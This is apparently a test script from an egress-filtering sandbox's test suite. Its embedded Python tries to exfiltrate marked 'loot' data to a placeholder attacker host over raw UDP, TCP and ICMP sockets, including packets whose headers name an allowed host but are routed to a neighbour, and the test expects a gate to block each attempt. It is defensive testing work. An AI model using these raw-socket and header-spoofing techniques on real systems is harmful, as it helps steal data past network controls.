#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends TCP, UDP and ICMP by raw sockets that are older than the gate, also in headers that name an allowed host but go to a neighbour, and in headers of the other IP version
# stopped-by: egress
# reason: socket_type
# kernels: all
#
# Where a packet of a raw socket goes is not what its header says: the call names the next hop, and the kernel
# asks no more of the header. A neighbour on the link reads what carries the address of an allowed host.
. "$(dirname "$0")/lib.sh"
arena tcp/443

attack_by <<'PYTHON'
from attacker import *

raw4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
bare = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
bare.connect((EVIL4, 0))
ready()
with attempt("UDP, IPv4"):
    raw4.sendto(ip4(EVIL4, 17, udp_body(EVIL4, 9000, loot("udp4"))), (EVIL4, 0))
with attempt("UDP, IPv6"):
    raw6.sendto(ip6(EVIL6, 17, udp_body(EVIL6, 9000, loot("udp6"))), (EVIL6, 0))
with attempt("TCP"):
    raw4.sendto(ip4(EVIL4, 6, tcp_body(EVIL4, 443, loot("tcp"))), (EVIL4, 0))
with attempt("ICMP"):
    icmp.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + loot("icmp"), (EVIL4, 0))
with attempt("connected"):
    bare.send(udp_body(EVIL4, 9000, loot("connected")))
with attempt("to a neighbour, in the name of an allowed host"):
    raw4.sendto(ip4(GOOD4, 6, tcp_body(GOOD4, 443, loot("neighbour4"))), ("192.0.2.1", 0))
    raw6.sendto(ip6(GOOD6, 6, tcp_body(GOOD6, 443, loot("neighbour6"))), ("2001:db8::1", 0))
with attempt("an IPv6 header in an IPv4 frame"): # which newer kernels refuse by themselves
    raw4.sendto(ip6(GOOD6, 6, tcp_body(GOOD6, 443, loot("version"))), (EVIL4, 0))
PYTHON
works_once_open stolen:udp4 stolen:udp6 stolen:tcp stolen:icmp stolen:connected stolen:neighbour4 stolen:neighbour6
stopped_once_open gate
recorded egress socket_type
